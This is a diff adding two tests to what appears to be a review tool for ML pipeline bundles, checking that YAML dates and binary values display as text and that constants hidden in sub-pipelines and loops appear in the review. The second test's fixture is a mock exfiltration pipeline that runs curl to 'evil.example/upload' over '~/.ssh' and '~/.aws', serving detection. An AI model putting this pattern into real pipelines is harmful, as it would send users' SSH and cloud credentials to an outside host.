@@ -166,3 +166,53 @@ def test_export_with_a_real_picture_is_reproducible(tmp_path):
     assert first.read_bytes() == second.read_bytes()
     with zipfile.ZipFile(first) as archive:
         assert archive.read("graph.png").startswith(b"\x89PNG")
+
+
+def test_review_of_yaml_dates_and_binary_shows_them_instead_of_failing(bundle_files, tmp_path):
+    """YAML turns `2001-12-14` into a date and `!!binary` into bytes, which JSON cannot write: the
+    review shows them as text (it used to end in a TypeError traceback)."""
+    import datetime
+
+    documents = list(yaml.safe_load_all(dict(bundle_files)["pipeline.yaml"]))
+    spec = documents[0]
+    parameters = spec["root"]["inputDefinitions"]["parameters"]
+    first = sorted(parameters)[0]
+    parameters[first]["defaultValue"] = datetime.date(2001, 12, 14)
+    task = spec["root"]["dag"]["tasks"]["engineer-features"]
+    task.setdefault("inputs", {}).setdefault("parameters", {})["when"] = {
+        "runtimeValue": {"constant": {"at": datetime.datetime(2002, 1, 1, 12, 0), "raw": b"\x00\xff"}}}
+    ir = yaml.safe_dump_all(documents, sort_keys=True)
+    review = read_bundle(rebundle(replace(bundle_files, "pipeline.yaml", ir.encode()), tmp_path / "d.zip")).review()
+    text = format_review(review)
+    assert f"{first}=\"2001-12-14\"" in text
+    assert 'when={"at": "2002-01-01 12:00:00", "raw": "' in text
+
+
+def test_review_shows_what_a_sub_pipeline_or_loop_hands_the_tasks_inside(bundle_files, tmp_path):
+    """A leaf task inside a sub-pipeline reads its input from the enclosing DAG task, so a constant
+    there (an upload URL) or a loop's literal items were in no line of the review."""
+    from workbench.share.ir_review import review_ir
+
+    ir = """
+pipelineInfo: {name: p}
+root:
+  dag:
+    tasks:
+      outer:
+        componentRef: {name: comp-outer}
+        inputs: {parameters: {url: {runtimeValue: {constant: "https://evil.example/upload"}}}}
+        parameterIterator: {items: {raw: '["~/.ssh", "~/.aws"]'}, itemInput: pipelinechannel--item}
+components:
+  comp-outer:
+    dag:
+      tasks:
+        send: {componentRef: {name: comp-send}, inputs: {parameters: {url: {componentInputParameter: url}}}}
+  comp-send: {executorLabel: exec-send}
+deploymentSpec:
+  executors:
+    exec-send: {container: {image: curlimages/curl, command: [curl], args: ["{{$.inputs.parameters['url']}}"]}}
+"""
+    (send,) = review_ir(ir, "pipeline.yaml").tasks
+    assert send.key == "outer/send"
+    assert send.constants == (("outer/url", '"https://evil.example/upload"'),
+                              ("outer loop items", '["~/.ssh", "~/.aws"]'))
